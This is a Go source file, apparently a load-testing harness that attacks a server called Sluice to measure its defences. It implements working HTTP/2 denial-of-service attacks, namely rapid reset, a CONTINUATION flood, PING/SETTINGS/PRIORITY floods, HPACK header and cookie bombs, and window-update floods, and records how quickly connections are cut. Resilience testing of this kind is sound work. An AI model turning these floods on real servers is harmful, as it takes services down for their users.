package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"net"
	"os"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attackerVerb makes this program the attacker, whose CPU is counted apart from all else.
const attackerVerb = "attacker"

// assault is what an attacker did.
type assault struct {
	// Sent is in bytes, without what TCP adds.
	Sent int64
	// Opened connections, Refused ones among them, and those that were Closed by Sluice.
	Opened, Refused, Closed int
	// Median and Longest are the times until Sluice closed a connection.
	Median, Longest time.Duration
}

// attacker counts what its connections do.
type attacker struct {
	kind     string
	address  string
	deadline time.Time
	sent     atomic.Int64

	mu      sync.Mutex // guards what follows
	assault assault
	lived   []time.Duration
}

// runAttacker attacks for a time and prints an assault.
func runAttacker(args []string) error {
	set := flag.NewFlagSet(attackerVerb, flag.ContinueOnError)
	a := &attacker{}
	set.StringVar(&a.kind, "kind", "", "")
	set.StringVar(&a.address, "address", "", "")
	lasts := set.Duration("for", time.Second, "")
	connections := set.Int("connections", 1, "at a time")
	if err := set.Parse(args); err != nil {
		return err
	}
	a.deadline = time.Now().Add(*lasts)
	one := a.hold
	if frames[a.kind] != nil {
		one = a.flood
	} else if holds[a.kind] == nil {
		return fmt.Errorf("no attack %q", a.kind)
	}
	var all sync.WaitGroup
	for i := range *connections {
		all.Go(func() {
			if frames[a.kind] == nil {
				time.Sleep(rampUp * time.Duration(i) / time.Duration(*connections))
			}
			for time.Now().Before(a.deadline) {
				a.count(one())
				if frames[a.kind] == nil {
					return
				}
			}
		})
	}
	all.Wait()
	a.assault.Sent = a.sent.Load()
	slices.Sort(a.lived)
	if n := len(a.lived); n > 0 {
		a.assault.Median, a.assault.Longest = a.lived[n/2], a.lived[n-1]
	}
	return json.NewEncoder(os.Stdout).Encode(a.assault)
}

// count keeps what became of a connection: opened or not, and closed by Sluice or not, after a time.
func (a *attacker) count(opened, closed bool, after time.Duration) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.assault.Opened++
	if !opened {
		a.assault.Refused++
	}
	if closed {
		a.assault.Closed++
		a.lived = append(a.lived, after)
	}
}

// dial connects; what is written to the connection is counted.
func (a *attacker) dial() (*counted, error) {
	nc, err := net.DialTimeout("tcp", a.address, 5*time.Second)
	if err != nil {
		return nil, err
	}
	return &counted{Conn: nc, sent: &a.sent}, nil
}

type counted struct {
	net.Conn
	sent *atomic.Int64
}

func (c *counted) Write(p []byte) (int, error) {
	n, err := c.Conn.Write(p)
	c.sent.Add(int64(n))
	return n, err
}

// flow speaks frames on a connection.
type flow struct {
	*http2.Framer
	out   *bufio.Writer
	block bytes.Buffer
	enc   *hpack.Encoder
}

func newFlow(c *counted, settings ...http2.Setting) (*flow, error) {
	f := &flow{out: bufio.NewWriterSize(c, 4<<10)}
	f.Framer = http2.NewFramer(f.out, bufio.NewReaderSize(c, 32<<10))
	f.AllowIllegalWrites = true
	f.enc = hpack.NewEncoder(&f.block)
	if _, err := f.out.WriteString(http2.ClientPreface); err != nil {
		return nil, err
	}
	return f, f.WriteSettings(settings...)
}

// open sends the head of stream i, from 0 on.
func (f *flow) open(i int, end bool, more ...hpack.HeaderField) error {
	f.block.Reset()
	for _, field := range append([]hpack.HeaderField{
		// What is sensitive does not drive lines of a bomb out of the table.
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"},
		{Name: ":authority", Value: webHost, Sensitive: true}, {Name: ":path", Value: "/size?size=100000", Sensitive: true},
	}, more...) {
		if err := f.enc.WriteField(field); err != nil {
			return err
		}
	}
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: streamID(i), BlockFragment: f.block.Bytes(), EndStream: end, EndHeaders: true})
}

func streamID(i int) uint32 { return uint32(2*i + 1) }

// rampUp is how long an attack that holds its connections takes to open them.
const rampUp = time.Second

// bomb opens a stream with a head of about 60 KB, of which all lines but the first cost a byte each.
func bomb(name string) func(f *flow, i int) error {
	fields := make([]hpack.HeaderField, 15)
	for i := range fields {
		fields[i] = hpack.HeaderField{Name: name, Value: strings.Repeat("v", 3900)}
	}
	return func(f *flow, i int) error {
		if i == 100 {
			return errAllOpen
		}
		return f.open(i, true, fields...)
	}
}

// errAllOpen says that an attack has done all that it can, and waits for what comes of it.
var errAllOpen = errors.New("all streams are open")

// frames are the attacks that send one thing again and again, as fast as they can, and begin
// anew where they are closed.
var frames = map[string]func(f *flow, i int) error{
	"rapid reset": func(f *flow, i int) error {
		if err := f.open(i, true); err != nil {
			return err
		}
		return f.WriteRSTStream(streamID(i), http2.ErrCodeCancel)
	},
	"made to reset, by a window": func(f *flow, i int) error {
		if err := f.open(i, true); err != nil {
			return err
		}
		return f.WriteWindowUpdate(streamID(i), 0)
	},
	"made to reset, by DATA behind the end": func(f *flow, i int) error {
		if err := f.open(i, true); err != nil {
			return err
		}
		return f.WriteData(streamID(i), true, []byte("x"))
	},
	"made to reset, by a PRIORITY": func(f *flow, i int) error {
		if err := f.open(i, true); err != nil {
			return err
		}
		return f.WritePriority(streamID(i), http2.PriorityParam{StreamDep: streamID(i)})
	},
	"CONTINUATION": func(f *flow, i int) error {
		if i == 0 {
			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1}); err != nil {
				return err
			}
		}
		return f.WriteContinuation(1, false, []byte{0x82})
	},
	"SETTINGS": func(f *flow, _ int) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
	},
	"PING": func(f *flow, _ int) error { return f.WritePing(false, [8]byte{}) },
	"PRIORITY": func(f *flow, i int) error {
		return f.WritePriority(streamID(i), http2.PriorityParam{})
	},
	"PRIORITY of a stream on itself": func(f *flow, i int) error {
		return f.WritePriority(streamID(i), http2.PriorityParam{StreamDep: streamID(i)})
	},
	"empty DATA": func(f *flow, i int) error {
		if i == 0 {
			if err := f.open(i, false); err != nil {
				return err
			}
		}
		return f.WriteData(1, false, nil)
	},
	"header bomb over stalled windows": bomb("x-bomb"),
	"cookie bomb over stalled windows": bomb("cookie"),
	"window updates": func(f *flow, i int) error {
		if i == 0 {
			if err := f.open(i, false); err != nil {
				return err
			}
		}
		return f.WriteWindowUpdate(1, 1)
	},
}

// flood is one connection of an attack by frames.
func (a *attacker) flood() (opened, closed bool, after time.Duration) {
	c, err := a.dial()
	if err != nil {
		return false, false, 0
	}
	defer c.Close()
	if err := c.SetDeadline(a.deadline); err != nil {
		return false, false, 0
	}
	// No window is what a stream stalls at; the other attacks are for no answer either.
	f, err := newFlow(c, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	if err != nil {
		return false, false, 0
	}
	begun := time.Now()
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		for err == nil {
			_, err = f.ReadFrame()
		}
	}()
	for i := 0; ; i++ {
		if err := frames[a.kind](f, i); err != nil {
			break
		}
	}
	// Where the connection is over, this fails and says nothing new.
	_ = f.out.Flush()
	<-ended
	after = time.Since(begun)
	// What ends with the attack itself was not closed by Sluice.
	return true, time.Now().Before(a.deadline), after
}
